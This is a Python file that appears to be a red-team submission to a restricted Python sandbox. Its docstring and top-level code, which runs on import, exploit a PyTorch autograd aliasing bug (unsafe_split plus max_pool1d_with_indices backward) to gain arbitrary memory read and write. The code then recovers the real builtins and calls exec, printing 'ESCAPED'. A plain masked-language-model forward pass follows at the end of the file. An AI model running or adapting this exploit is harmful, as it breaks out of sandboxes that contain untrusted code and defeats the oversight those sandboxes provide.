"""Hostile (red-team round 11): Tensor.unsafe_split gives an alias of a tensor's memory with a
fresh autograd version counter (at::native::unsafe_split resets it), so the indices that
torch.max_pool1d_with_indices saves for its backward can be rewritten between the forward and the
backward without autograd noticing. The CPU max-pool backward does grad_input[index] += grad with
no bounds check: an 8-byte add at any address (grad_input is a 64 MiB zeros_like, placed where a
freed probe of the same size was). A denormal float64 added to a pointer (also a denormal as a
float64) adds the integers exactly. One add points a numpy array's data pointer at another
array's header (its address learnt through torch.LongTensor(ndarray), a legacy constructor that
aliases the array): reads and writes anywhere, then the real exec."""

import math
import operator

import numpy
import torch

N = 1 << 23  # 64 MiB of float64: always mmapped by malloc
x = torch.zeros(1, 1, N, dtype=torch.float64, requires_grad=True)


def as_double(delta):
    bits = delta if delta >= 0 else (-delta) | (1 << 63)
    if bits >= 1 << 63:
        bits -= 1 << 64
    return torch.tensor([bits], dtype=torch.int64).view(torch.float64)


def add_at(address, delta):
    probe = torch.zeros(1, 1, N, dtype=torch.float64)
    base = probe.data_ptr()
    del probe  # grad_input below lands where the probe was
    out, idx = torch.max_pool1d_with_indices(x, N)  # one output, its index saved for backward
    alias = idx.unsafe_split(1)[0]  # same memory, a version counter of its own
    alias[0, 0, 0] = 0 if address is None else (address - base) // 8
    g = as_double(delta).view(1, 1, 1)
    gi = torch.autograd.grad(out, x, g)[0]
    return base, gi.data_ptr()


for i in range(3):  # warm-up: harmless (in bounds), until the hole is reused
    b, p = add_at(None, 0)
print("PROBE warm-up", hex(b), hex(p))
window = numpy.zeros(4, dtype=numpy.int64)
control = numpy.zeros(4, dtype=numpy.int64)
control_data = torch.LongTensor(control).data_ptr()  # the legacy constructor aliases the array
b, p = add_at(id(control) + 16, id(window) - control_data)  # control's data pointer := window's header
print("PROBE write", hex(b), hex(p), "control[2]", hex(int(control[2])))


def read(address):
    control[2] = address
    return int(window[0])


def write(address, value):
    control[2] = address
    window[0] = value


saved = int(control[2])
builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
control[2] = saved
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'], 'open', b['open'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
